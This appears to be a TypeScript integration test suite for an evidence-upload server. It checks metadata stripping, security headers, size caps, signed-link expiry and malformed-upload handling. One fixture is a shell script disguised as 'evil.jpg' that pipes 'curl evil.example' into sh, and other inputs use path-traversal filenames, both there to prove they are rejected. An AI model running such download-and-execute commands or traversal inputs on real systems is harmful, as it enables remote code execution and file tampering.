import { createHash } from 'node:crypto'
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import type { FastifyInstance } from 'fastify'
import { EVIDENCE_RULES, MAX_EVIDENCE_BYTES } from '../../src/domain/evidence.schema'
import { diskFileStore } from '../../cloudfunctions/adapters/files/disk-file-store'
import type { Store } from '../../cloudfunctions/ports/store'
import { evidenceViewFor } from '../../cloudfunctions/services/evidence/evidence-links'
import { browserLike } from '../support/http-client'
import { makeDeps, openTestStore } from '../support/test-deps'
import { form, startEvidenceHost, type FilePart } from './support/evidence-host'
import { treeOf } from './support/tree'
import { gpsOf, jpegWithGps, metadataOf, minimalPdf } from './support/images'

/** what /files/ answers carry (evidence-routes.ts): no script, no request but the file, and sandboxed */
const FILES_CSP = "default-src 'none'; img-src 'self'; media-src 'self'; style-src 'unsafe-inline'; sandbox allow-same-origin"
const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex')
const jpegMagic = (size: number) => Buffer.alloc(size).fill(0x41).fill(0xff, 0, 1).fill(0xd8, 1, 2).fill(0xff, 2, 3)

// Uploads and signed links over real HTTP on loopback, with the real store and files on disk.
describe('evidence over HTTP', () => {
  let store: Store
  let deps: ReturnType<typeof makeDeps>
  let app: FastifyInstance
  let base: string
  let dataDir: string
  let root: string

  beforeAll(async () => {
    store = await openTestStore()
    dataDir = mkdtempSync(join(tmpdir(), 'kuaisu-upload-'))
    root = join(dataDir, 'files')
    deps = { ...makeDeps(store), files: diskFileStore(root) }
    ;({ app, base } = await startEvidenceHost(deps))
  })
  afterAll(async () => {
    await app.close()
    await store.close()
    rmSync(dataDir, { recursive: true, force: true })
  })

  async function send(browser: ReturnType<typeof browserLike>, body: FormData) {
    const res = await browser.request('/upload/evidence', { method: 'POST', body })
    return { status: res.status, body: await res.json() }
  }
  const upload = (kind: string, file: FilePart, browser = browserLike(base)) =>
    send(
      browser,
      form([
        ['kind', kind],
        ['file', file],
      ]),
    )
  async function linkTo(id: string) {
    return evidenceViewFor(deps, (await store.getEvidence(id))!, deps.clock.now()).url!
  }
  const coded = (code: string) => ({ ok: false, error: { code, message: expect.any(String) } })

  it('when a photo with GPS is uploaded, then 200, and the copy served by its link has no EXIF/GPS and matches the sha256', async () => {
    const photo = await jpegWithGps()
    expect(await gpsOf(photo)).toMatchObject({ latitude: 30.25 }) // the input really carries a location
    const browser = browserLike(base)
    const res = await upload('photo', { bytes: photo, name: 'IMG_2041.jpg', type: 'image/jpeg' }, browser)
    expect(res).toEqual({
      status: 200,
      body: { ok: true, data: expect.objectContaining({ kind: 'photo', mime: 'image/jpeg', displayName: 'IMG_2041.jpg', url: null }) },
    })

    const served = await fetch(base + (await linkTo(res.body.data.id)))
    expect(served.status).toBe(200)
    const bytes = new Uint8Array(await served.arrayBuffer())
    expect(await gpsOf(bytes)).toBeNull()
    expect(await metadataOf(bytes)).toBeNull()
    expect(sha256(bytes)).toBe(res.body.data.sha256)
    expect(bytes.length).toBe(res.body.data.bytes)
    expect(
      Object.fromEntries(
        ['content-type', 'x-content-type-options', 'cache-control', 'content-disposition', 'content-security-policy'].map((h) => [
          h,
          served.headers.get(h),
        ]),
      ),
    ).toEqual({
      'content-type': 'image/jpeg',
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, max-age=600',
      'content-disposition': `inline; filename="IMG_2041.jpg"; filename*=UTF-8''IMG_2041.jpg`,
      'content-security-policy': FILES_CSP,
    })
    const saved = (await store.getEvidence(res.body.data.id))!
    expect(saved).toMatchObject({ caseId: null, uploadedBy: deps.secrets.hashToken(browser.jar.get('ks_device')!) })
  })

  it('when a shell script is named evil.jpg and declared image/jpeg, then 415 UNSUPPORTED_FILE_TYPE', async () => {
    const res = await upload('photo', { bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), name: 'evil.jpg', type: 'image/jpeg' })
    expect(res).toEqual({ status: 415, body: coded('UNSUPPORTED_FILE_TYPE') })
  })

  it('when a photo is one byte over the photo cap, then 413 FILE_TOO_LARGE', async () => {
    const res = await upload('photo', { bytes: jpegMagic(EVIDENCE_RULES.photo.maxBytes + 1), name: 'big.jpg', type: 'image/jpeg' })
    expect(res).toEqual({ status: 413, body: coded('FILE_TOO_LARGE') })
  })

  it('when a file is bigger than the multipart limit itself, then 413 FILE_TOO_LARGE, not a silently cut file', async () => {
    const res = await upload('video', { bytes: Buffer.alloc(MAX_EVIDENCE_BYTES + 1, 1), name: 'huge.mp4', type: 'video/mp4' })
    expect(res).toEqual({ status: 413, body: coded('FILE_TOO_LARGE') })
  })

  it('when the file is named ../../x.jpg, then it is stored under a random key inside the store root only', async () => {
    const before = treeOf(dataDir)
    for (const name of ['../../x.jpg', '..\\..\\x.jpg', '..']) {
      const res = await upload('photo', { bytes: await jpegWithGps(), name, type: 'image/jpeg' })
      expect(res.status).toBe(200)
      expect(res.body.data.displayName).not.toMatch(/[/\\]|\.\./)
    }
    const added = treeOf(dataDir).filter((f) => !before.includes(f))
    expect(added).toHaveLength(3)
    for (const f of added) expect(f).toMatch(/^files\/([0-9a-f]{2})\/\1[0-9a-f]{30}$/)
    for (const dir of [dataDir, join(dataDir, '..'), process.cwd()]) expect(existsSync(join(dir, 'x.jpg'))).toBe(false)
  })

  it('when a PDF receipt with a Chinese name is uploaded, then 200 application/pdf, served as a download with an RFC 5987 name', async () => {
    const pdf = minimalPdf()
    const res = await upload('receipt', { bytes: pdf, name: '购物小票 3月.pdf', type: 'application/pdf' })
    expect(res.body.data).toMatchObject({ mime: 'application/pdf', displayName: '购物小票 3月.pdf', sha256: sha256(pdf) })
    const served = await fetch(base + (await linkTo(res.body.data.id)))
    expect(served.headers.get('content-type')).toBe('application/pdf')
    const disposition = served.headers.get('content-disposition')!
    expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/)
    expect(served.headers.get('content-security-policy')).toBe(FILES_CSP)
    expect(served.headers.get('x-content-type-options')).toBe('nosniff')
    expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toBe('购物小票 3月.pdf')
    expect(Buffer.from(await served.arrayBuffer()).equals(pdf)).toBe(true)
  })

  it.each([
    ['a WAV recording', 'attachment', 'audio', 'recording-info.wav', 'audio/wav'],
    ['an MP3 recording', 'attachment', 'audio', 'recording-tags.mp3', 'audio/mpeg'],
    ['a phone video', 'inline', 'video', 'phone-xyz.mov', 'video/quicktime'],
  ])(
    'when %s is served, then it is sent %s, sandboxed and nosniff, without the location it was uploaded with',
    async (_label, disposition, kind, file, mime) => {
      const input = readFileSync(join(__dirname, '../fixtures/media', file))
      expect(input.includes('31.2304')).toBe(true)
      const res = await upload(kind, { bytes: input, name: file })
      expect(res.status).toBe(200)
      const served = await fetch(base + (await linkTo(res.body.data.id)))
      expect(served.status).toBe(200)
      expect({
        type: served.headers.get('content-type'),
        disposition: served.headers.get('content-disposition')?.split(';')[0],
        csp: served.headers.get('content-security-policy'),
        nosniff: served.headers.get('x-content-type-options'),
      }).toEqual({
        type: mime,
        disposition,
        csp: FILES_CSP,
        nosniff: 'nosniff',
      })
      const bytes = Buffer.from(await served.arrayBuffer())
      expect(bytes.includes('31.2304') || bytes.includes('121.4737')).toBe(false)
      expect(sha256(bytes)).toBe(res.body.data.sha256)
    },
  )

  it('when a link is tampered with, has expired, or is no link at all, then 404 with a code', async () => {
    const res = await upload('receipt', { bytes: minimalPdf(), name: 'r.pdf' })
    const link = await linkTo(res.body.data.id)
    const tampered = link.slice(0, -3) + (link.endsWith('AAA') ? 'BBB' : 'AAA')
    for (const path of [tampered, '/files/', '/files/abc', '/files/a/b', `/files/${'x'.repeat(5000)}`]) {
      const got = await fetch(base + path)
      expect({ path, status: got.status }).toEqual({ path, status: 404 })
      expect(got.headers.get('content-security-policy')).toBe(FILES_CSP)
      expect(await got.json()).toEqual(coded('FILE_LINK_EXPIRED'))
    }
    expect((await fetch(base + link)).status).toBe(200)
    deps.clock.advance(10 * 60_000 + 1000)
    try {
      expect((await fetch(base + link)).status).toBe(404)
    } finally {
      deps.clock.advance(-(10 * 60_000 + 1000))
    }
  })

  const photoPart: FilePart = { bytes: minimalPdf(), name: 'r.pdf' }
  it.each([
    [
      'the kind comes after the file',
      [
        ['file', photoPart],
        ['kind', 'receipt'],
      ],
      { kind: expect.any(String) },
    ],
    ['there is no kind', [['file', photoPart]], { kind: expect.any(String) }],
    [
      'the kind is unknown',
      [
        ['kind', 'document'],
        ['file', photoPart],
      ],
      { kind: expect.any(String) },
    ],
    ['there is no file', [['kind', 'receipt']], { file: '请选择要上传的文件' }],
    [
      'the file is under another name',
      [
        ['kind', 'receipt'],
        ['attachment', photoPart],
      ],
      { file: '请选择要上传的文件' },
    ],
  ] as [string, [string, string | FilePart][], object][])(
    'when %s, then 400 VALIDATION_FAILED naming the field',
    async (_label, parts, fields) => {
      const res = await send(browserLike(base), form(parts))
      expect(res).toEqual({ status: 400, body: { ok: false, error: { code: 'VALIDATION_FAILED', message: expect.any(String), fields } } })
    },
  )

  it('when two files are sent, then 400 TOO_MANY_FILES', async () => {
    const res = await send(
      browserLike(base),
      form([
        ['kind', 'receipt'],
        ['file', photoPart],
        ['file', photoPart],
      ]),
    )
    expect(res).toEqual({ status: 400, body: coded('TOO_MANY_FILES') })
  })

  it.each([
    ['JSON', 'application/json', '{"kind":"photo"}'],
    ['multipart without a boundary', 'multipart/form-data', '--x\r\n'],
    [
      'a cut-off multipart body',
      'multipart/form-data; boundary=x',
      '--x\r\ncontent-disposition: form-data; name="kind"\r\n\r\nphoto\r\n--x\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n\xff\xd8\xff',
    ],
    [
      'too many fields',
      'multipart/form-data; boundary=x',
      Array.from({ length: 8 }, (_, i) => `--x\r\ncontent-disposition: form-data; name="f${i}"\r\n\r\nv\r\n`).join('') + '--x--\r\n',
    ],
    ['plain text', 'text/plain', 'kind=photo'],
    ['an unknown type', 'application/x-thing', 'zzz'],
  ])('when the body is %s, then a coded 4xx, never a 500', async (_label, type, body) => {
    const res = await fetch(`${base}/upload/evidence`, { method: 'POST', headers: { 'content-type': type }, body })
    expect(res.status).toBeGreaterThanOrEqual(400)
    expect(res.status).toBeLessThan(500)
    expect(await res.json()).toEqual(coded(expect.stringMatching(/^(BAD_REQUEST|VALIDATION_FAILED)$/)))
  })

  it('when any mix of fields and files in any order is posted, then the answer is never a 500', async () => {
    const starts = [[0xff, 0xd8, 0xff], [0x25, 0x50, 0x44, 0x46, 0x2d], [0x23, 0x21], []]
    const part = fc.oneof(
      fc.tuple(
        fc.constantFrom('kind', 'file', 'other'),
        fc.constantFrom('photo', 'video', 'audio', 'receipt', '', '照片', 'x'.repeat(2000)),
      ),
      fc.tuple(
        fc.constantFrom('file', 'kind', 'x'),
        fc.record({
          name: fc.string(),
          bytes: fc.tuple(fc.constantFrom(...starts), fc.uint8Array({ maxLength: 300 })).map(([s, b]) => new Uint8Array([...s, ...b])),
        }),
      ),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(part, { maxLength: 8 }), async (parts) => {
        const res = await send(browserLike(base), form(parts as [string, string | FilePart][]))
        expect(res.status).toBeLessThan(500)
        expect(res.body.ok).toBe(res.status === 200)
      }),
      { numRuns: 60 },
    )
  })
})
